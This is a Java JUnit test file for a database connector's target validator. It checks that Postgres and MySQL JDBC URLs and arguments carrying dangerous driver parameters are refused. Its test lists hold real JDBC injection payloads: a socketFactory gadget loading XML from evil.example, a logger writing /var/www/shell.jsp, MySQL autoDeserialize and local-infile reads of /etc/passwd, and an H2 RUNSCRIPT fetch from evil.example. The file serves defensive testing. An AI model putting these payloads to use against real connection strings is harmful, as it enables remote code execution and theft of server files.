package dev.tributary.connector.cloudsql.connect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tributary.connector.cloudsql.option.ConnectionOptions;
import dev.tributary.connector.option.Configuration;
import dev.tributary.connector.option.Options;
import dev.tributary.connector.option.Problems;
import dev.tributary.connector.option.Resolver;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TargetCheckTest {
  private static Problems check(Configuration configuration) {
    Problems problems = Problems.of(configuration);
    TargetCheck.check(
        ConnectionOptions.ALL.bind(configuration, problems, Resolver.none()), problems);
    return problems;
  }

  private static Configuration host(String type) {
    return Configuration.empty()
        .with("db_type", type)
        .with("host", "db.example.com")
        .with("database", "orders");
  }

  private static Configuration url(String url) {
    return Configuration.empty()
        .with("db_type", url.contains("mysql") || url.contains("mariadb") ? "mysql" : "postgres")
        .with("jdbc_url", url);
  }

  private static Target target(Configuration configuration) {
    assertThat(check(configuration).errors()).isEmpty();
    Options options = ConnectionOptions.ALL.bind(configuration, Problems.empty(), Resolver.none());
    return Target.of(options, "orders_db");
  }

  @ParameterizedTest
  @CsvSource({
    "postgres, socketFactory, org.springframework.context.support.ClassPathXmlApplicationContext",
    "postgres, socketFactoryArg, http://evil.example/x.xml",
    "postgres, sslfactory, javax.naming.InitialContext",
    "postgres, SSLFACTORY, javax.naming.InitialContext",
    "postgres, sslhostnameverifier, Evil",
    "postgres, sslpasswordcallback, Evil",
    "postgres, authenticationPluginClassName, Evil",
    "postgres, xmlFactoryFactory, Evil",
    "postgres, connectExecutor, Evil",
    "postgres, classLoaderStrategy, context-first",
    "postgres, jaasApplicationName, Evil",
    "postgres, loggerFile, /var/www/shell.jsp",
    "postgres, loggerLevel, TRACE",
    "postgres, service, elsewhere",
    "postgres, readOnlyMode, ignore",
    "postgres, replication, database",
    "postgres, cloudSqlAdminRootUrl, https://evil.example",
    "postgres, password, hunter2hunter2",
    "mysql, autoDeserialize, true",
    "mysql, AUTODESERIALIZE, true",
    "mysql, allowLoadLocalInfile, true",
    "mysql, allowLoadLocalInfileInPath, /",
    "mysql, allowUrlInLocalInfile, true",
    "mysql, allowMultiQueries, true",
    "mysql, queryInterceptors, com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
    "mysql, statementInterceptors, Evil",
    "mysql, connectionLifecycleInterceptors, Evil",
    "mysql, exceptionInterceptors, Evil",
    "mysql, authenticationPlugins, Evil",
    "mysql, defaultAuthenticationPlugin, Evil",
    "mysql, authenticationOpenidConnectCallbackHandler, Evil",
    "mysql, propertiesTransform, Evil",
    "mysql, socketFactory, Evil",
    "mysql, logger, Evil",
    "mysql, profilerEventHandler, Evil",
    "mysql, clientInfoProvider, Evil",
    "mysql, sslContextProvider, Evil",
    "mysql, serverConfigCacheFactory, Evil",
    "mysql, queryInfoCacheFactory, Evil",
    "mysql, loadBalanceExceptionChecker, Evil",
    "mysql, useConfigs, evil",
    "mysql, ociConfigFile, /etc/passwd",
    "mysql, serverRSAPublicKeyFile, /etc/passwd",
    "mysql, trustCertificateKeyStoreUrl, http://evil.example/x",
    "mysql, clientCertificateKeyStoreUrl, file://evil.example/x",
    "mysql, socksProxyHost, evil.example",
    "mysql, sessionVariables, sql_mode=ANSI",
    "mysql, createDatabaseIfNotExist, true",
  })
  void refusesWhatReachesBeyondTheLine(String type, String name, String value) {
    Problems asArgument = check(host(type).with("connection_args", Map.of(name, value)));
    String protocol = type.equals("postgres") ? "postgresql" : "mysql";
    Problems inUrl =
        check(url("jdbc:" + protocol + "://db.example.com/orders?" + name + "=" + value));
    String hidden = "%" + Integer.toHexString(name.charAt(0)) + name.substring(1);
    Problems encoded =
        check(url("jdbc:" + protocol + "://db.example.com/orders?" + hidden + "=" + value));

    assertThat(asArgument.toString()).contains("`" + name + "` is refused");
    assertThat(inUrl.toString()).contains("`" + name + "` is refused").doesNotContain("hunter2");
    assertThat(encoded.toString()).contains("`" + name + "` is refused");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mysql://(host=db,port=3306,autoDeserialize=true)/orders",
        "jdbc:mysql://address=(host=db)(autoDeserialize=true)/orders",
        "jdbc:mysql://db[autoDeserialize=true]/orders",
        "jdbc:mysql:loadbalance://db/orders",
        "jdbc:mysql:replication://a,b/orders",
        "jdbc:mysql+srv://db/orders",
        "mysqlx://db/orders",
        "jdbc:mysql://root:hunter2@db/orders",
        "jdbc:mysql://a,b/orders",
        "jdbc:mysql://db/orders#x",
        "jdbc:mysql://db/orders?allow%ZZ=1",
        "jdbc:mysql://db/orders?paranoid=true&paranoid=false",
        "jdbc:postgresql:orders",
        "jdbc:postgresql://u:hunter2@db/orders",
        "jdbc:postgresql://db/orders/../x?a=b?c=d/e",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:sqlite:/etc/passwd",
        "",
      })
  void refusesUrlsThatItCannotCheck(String url) {
    Problems problems = check(url(url));

    assertThat(problems.errors()).isNotEmpty();
    assertThat(problems.toString()).contains("jdbc_url").doesNotContain("hunter2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "db/orders?socketFactory=Evil",
        "db?x=y",
        "db,other",
        "db:5432",
        "(host=db)",
        "a b",
        "user@db",
        "db\n",
        "",
      })
  void refusesHostsThatAreNone(String host) {
    assertThat(check(host("postgres").with("host", host)).errors()).isNotEmpty();
  }

  @Test
  void aDatabasesNameCannotBecomeAParameter() {
    Target postgres = target(host("postgres").with("database", "a?loggerFile=x&b=%41/é"));
    Target mySql = target(host("mysql").with("database", "a?autoDeserialize=true"));

    assertThat(postgres.url())
        .isEqualTo("jdbc:postgresql://db.example.com:5432/a%3FloggerFile%3Dx%26b%3D%2541%2F%C3%A9");
    assertThat(mySql.url())
        .isEqualTo("jdbc:mysql://db.example.com:3306/a%3FautoDeserialize%3Dtrue");
  }

  @Test
  void unknownNamesAreErrorsWithASuggestion() {
    Problems problems =
        check(
            host("postgres")
                .with("connection_args", Map.of("conect_timeout", 3, "aplicationName", "x")));

    assertThat(problems.toString())
        .contains("knows no `conect_timeout`", "Did you mean `connect_timeout`?")
        .contains("knows no `aplicationName`", "`");
    assertThat(problems.errors()).hasSize(2);
  }

  @Test
  void nothingIsSaidTwice() {
    Problems problems =
        check(
            host("postgres")
                .with("ssl_mode", "require")
                .with("connection_args", Map.of("sslmode", "disable")));

    assertThat(problems.toString()).contains("says what `connection_args.sslmode` says too");
  }

  @Test
  void tellsTheDriverInItsOwnWords() {
    Properties postgres =
        target(
                host("postgres")
                    .with("user", "reader")
                    .with("password", "hunter2hunter2")
                    .with("timeout", 7)
                    .with("ssl_mode", "verify_full")
                    .with(
                        "connection_args",
                        Map.of("connect_timeout", 3, "receiveBufferSize", "65536")))
            .properties(false);
    Properties mySql =
        target(host("mysql").with("connection_args", Map.of("connect_timeout", 300)))
            .properties(false);

    assertThat(postgres)
        .containsEntry("user", "reader")
        .containsEntry("password", "hunter2hunter2")
        .containsEntry("connectTimeout", "3")
        .containsEntry("socketTimeout", "7")
        .containsEntry("sslmode", "verify-full")
        .containsEntry("receiveBufferSize", "65536")
        .containsEntry("ApplicationName", "tributary/orders_db");
    assertThat(mySql)
        .as("never longer than `timeout`")
        .containsEntry("connectTimeout", "30000")
        .containsEntry("allowLoadLocalInfile", "false")
        .containsEntry("connectionAttributes", "program_name:tributary/orders_db");
  }

  @Test
  void takesUrlsApartAndMakesThemAnew() {
    Target postgres =
        target(
            url(
                "jdbc:postgresql://a.example:5433,[::1]:5432/orders"
                    + "?targetServerType=preferSecondary&ApplicationName=a%20b"));
    Target mariaDb = target(url("jdbc:mariadb://db.example.com/orders"));

    assertThat(postgres.url()).isEqualTo("jdbc:postgresql://a.example:5433,[::1]:5432/orders");
    assertThat(postgres.properties(false))
        .containsEntry("targetServerType", "preferSecondary")
        .containsEntry("ApplicationName", "a b");
    assertThat(mariaDb.url()).isEqualTo("jdbc:mysql://db.example.com:3306/orders");
  }

  @Test
  void instancesAreReachedThroughGooglesFactory() {
    Configuration instance =
        Configuration.empty()
            .with("instance_connection_name", "my-project:europe-west1:orders")
            .with("ip_types", "private, PSC".split(", ")[0])
            .with("iam_authentication", true)
            .with("user", "reader@my-project.iam")
            .with("database", "orders");
    Target postgres = target(instance.with("db_type", "postgres"));
    Target mySql = target(instance.with("db_type", "mysql"));

    assertThat(postgres.url()).isEqualTo("jdbc:postgresql://localhost/orders");
    assertThat(postgres.properties(false))
        .containsEntry("socketFactory", "com.google.cloud.sql.postgres.SocketFactory")
        .containsEntry("cloudSqlInstance", "my-project:europe-west1:orders")
        .containsEntry("enableIamAuth", "true")
        .containsEntry("ipTypes", "PRIVATE")
        .containsEntry("sslmode", "disable");
    assertThat(mySql.properties(false))
        .containsEntry("socketFactory", "com.google.cloud.sql.mysql.SocketFactory")
        .containsEntry("cloudSqlInstance", "my-project:europe-west1:orders")
        .containsEntry("sslMode", "DISABLED");
  }

  @Test
  void saysWhatIsMissingOrContradicts() {
    assertThat(check(Configuration.empty().with("db_type", "postgres")).toString())
        .contains("host", "database");
    assertThat(check(host("postgres").with("jdbc_url", "jdbc:postgresql://x/orders")).errors())
        .isNotEmpty();
    assertThat(check(host("postgres").with("iam_authentication", true)).toString())
        .contains("needs `instance_connection_name`");
    assertThat(check(url("jdbc:postgresql://x/orders").with("database", "customers")).toString())
        .contains("is another one than in `jdbc_url`");
    assertThat(check(url("jdbc:postgresql://x/orders").with("database", "orders")).errors())
        .isEmpty();
  }
}
